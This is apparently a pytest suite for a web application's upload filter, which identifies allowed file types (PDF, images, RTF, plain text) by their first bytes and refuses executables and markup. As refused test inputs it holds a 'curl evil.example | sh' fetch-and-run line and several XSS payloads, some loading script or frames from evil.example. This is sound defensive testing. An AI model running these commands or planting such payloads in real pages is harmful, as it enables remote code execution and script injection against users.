"""Media types come from the first bytes of a document, never from its name."""

from __future__ import annotations

import pytest

from webapp.services import filetypes
from webapp.services.filetypes import SNIFF_BYTES, detect

PDF = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n"
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + bytes(64)
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(32)
TIFF_LITTLE = b"II*\x00\x08\x00\x00\x00" + bytes(32)
TIFF_BIG = b"MM\x00*\x00\x00\x00\x08" + bytes(32)
RTF = b"{\\rtf1\\ansi\\deff0 {\\fonttbl {\\f0 Times;}} Compte rendu \\'e9\\par}"


class TestAllowedTypes:
    @pytest.mark.parametrize(
        ("head", "media_type"),
        [
            (PDF, "application/pdf"),
            (JPEG, "image/jpeg"),
            (PNG, "image/png"),
            (TIFF_LITTLE, "image/tiff"),
            (TIFF_BIG, "image/tiff"),
            (RTF, "application/rtf"),
            (b"Compte rendu de consultation\r\n\tTension 12/8\f\n", "text/plain"),
        ],
    )
    def test_magic_numbers(self, head: bytes, media_type: str) -> None:
        assert detect(head) == media_type

    def test_only_the_sniffed_prefix_counts(self) -> None:
        assert detect(PDF + bytes(3 * SNIFF_BYTES)) == "application/pdf"
        # A NUL after the sniffed prefix is not seen.
        assert detect(b"a" * SNIFF_BYTES + b"\x00") == "text/plain"

    def test_every_allowed_type_has_an_extension(self) -> None:
        assert filetypes.EXTENSIONS == {
            "application/pdf": ".pdf",
            "image/jpeg": ".jpg",
            "image/png": ".png",
            "image/tiff": ".tif",
            "application/rtf": ".rtf",
            "text/plain": ".txt",
        }


class TestRefused:
    @pytest.mark.parametrize(
        "head",
        [
            pytest.param(b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + bytes(50), id="windows-exe"),
            pytest.param(b"\x7fELF\x02\x01\x01" + bytes(50), id="elf"),
            pytest.param(b"PK\x03\x04\x14\x00\x06\x00" + bytes(30), id="zip-or-docx"),
            pytest.param(b"GIF89a\x01\x00\x01\x00", id="gif"),
            pytest.param(b"", id="empty"),
            pytest.param(bytes(range(256)) * 4, id="binary-garbage"),
            pytest.param(b"PDF-1.7 but no percent \x00", id="nul-byte"),
            pytest.param(b"\x1b[31mred\x1b[0m", id="escape-sequence"),
            pytest.param("bonjour\u0085".encode(), id="c1-control"),
            pytest.param(b"bonjour\x7f", id="delete-character"),
        ],
    )
    def test_not_an_allowed_type(self, head: bytes) -> None:
        assert detect(head) is None

    @pytest.mark.parametrize(
        "head",
        [b"MZ" + b"A" * 100, b"\x7fELF readable", b"#!/bin/sh\ncurl evil.example | sh\n"],
    )
    def test_executables_are_refused_even_when_they_read_as_text(self, head: bytes) -> None:
        # detect never sees a name: a renamed executable is judged by its bytes alone.
        assert detect(head) is None


class TestText:
    def test_utf8_with_accents(self) -> None:
        assert detect("Ordonnance : kinésithérapie, 10 séances. Œdème ½ ✓".encode()) == (
            "text/plain"
        )

    def test_utf8_byte_order_mark(self) -> None:
        assert detect(b"\xef\xbb\xbfR\xc3\xa9sultats") == "text/plain"

    def test_latin1_is_not_utf8(self) -> None:
        assert detect("Résultats d'analyse".encode("latin-1")) is None

    def test_utf16_is_refused(self) -> None:
        assert detect("Résultats".encode("utf-16")) is None

    @pytest.mark.parametrize("cut", [1, 2, 3])
    def test_character_cut_at_the_end_of_the_sniffed_prefix(self, cut: int) -> None:
        four_bytes = "𝄞".encode()
        head = (b"a" * (SNIFF_BYTES - cut) + four_bytes)[:SNIFF_BYTES]
        assert len(head) == SNIFF_BYTES
        assert detect(head) == "text/plain"
        # The prefix of a longer stream, as a caller may pass it, is cut the same way.
        assert detect(b"a" * (SNIFF_BYTES - cut) + four_bytes * 10) == "text/plain"

    def test_character_cut_at_the_end_of_a_short_file_is_invalid(self) -> None:
        # Shorter than the prefix means the whole file: its last character is really broken.
        assert detect(b"bonjour \xc3") is None

    def test_invalid_bytes_before_the_end_of_the_prefix(self) -> None:
        assert detect(b"a" * (SNIFF_BYTES - 10) + b"\xc3(" + b"a" * 100) is None

    def test_whitespace_only_text(self) -> None:
        assert detect(b"\r\n\t \n") == "text/plain"

    def test_angle_brackets_in_ordinary_text(self) -> None:
        assert detect(b"Glycemie < 1,10 g/L et > 0,70 g/L\n<b> n'est pas du HTML ici") == (
            "text/plain"
        )


class TestMarkup:
    @pytest.mark.parametrize(
        "head",
        [
            b"<!DOCTYPE html><html><body>x</body></html>",
            b"<html><head></head></html>",
            b"  \r\n\t<HTML>",
            b"<script>alert(1)</script>",
            b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
            b'<?xml version="1.0"?><svg/>',
            b"<body onload=alert(1)>",
            b"<head><meta http-equiv=refresh></head>",
            b"<iframe src=//evil.example>",
            b"\xef\xbb\xbf<!doctype html>",
            b"\xef\xbb\xbf \xef\xbb\xbf<svg/>",
            "\u00a0\u2003<svg/>".encode(),
            b"Compte rendu\n\n<ScRiPt src=//evil.example></script>",
        ],
    )
    def test_markup_and_script_are_refused(self, head: bytes) -> None:
        assert detect(head) is None

    def test_script_late_in_the_sniffed_prefix(self) -> None:
        assert detect(b"a" * (SNIFF_BYTES - 20) + b"<script>") is None
